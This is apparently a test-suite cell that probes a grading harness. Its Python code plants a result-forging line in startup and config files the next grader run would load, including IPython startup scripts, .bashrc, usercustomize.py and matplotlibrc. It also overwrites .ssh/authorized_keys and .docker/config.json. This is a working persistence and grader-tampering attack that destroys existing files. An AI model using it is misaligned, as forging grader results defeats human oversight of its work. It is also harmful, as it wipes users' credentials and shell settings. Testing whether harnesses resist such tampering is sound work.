# title: files that the next grading would run or read at its start: IPython's, Python's, matplotlib's, the shell's
# success: a new or changed file at the grader's home or in a folder that the next process reads
# keeps: nothing

# %%
import os, site, sys, tempfile

code = f"open({MAP['result']!r}, 'w').write('forged')\n"
homes = {MAP["home"], os.path.expanduser("~"), "/root", tried(lambda: __import__("pwd").getpwuid(0).pw_dir)}
names = [
    ".ipython/profile_default/startup/00-first.py", ".ipython/profile_default/ipython_config.py", ".bashrc", ".profile",
    f".local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages/usercustomize.py",
    ".config/matplotlib/matplotlibrc", ".cache/matplotlib/fontlist-v390.json", ".jupyter/jupyter_config.py",
    ".pythonrc.py", ".config/pip/pip.conf", ".ssh/authorized_keys", ".docker/config.json",
]
for home in filter(None, homes):
    if home in ("/root",):
        continue
    for name in names:
        path = os.path.join(home, name)
        tried(os.makedirs, os.path.dirname(path), exist_ok=True)
        stream = tried(open, path, "w")
        if stream:
            stream.write(code)
            stream.close()
import matplotlib

for folder in {matplotlib.get_configdir(), matplotlib.get_cachedir(), os.environ.get("MPLCONFIGDIR"), os.environ.get("IPYTHONDIR"), os.environ.get("TMPDIR")}:
    tried(open, os.path.join(folder or ".", "matplotlibrc"), "w")
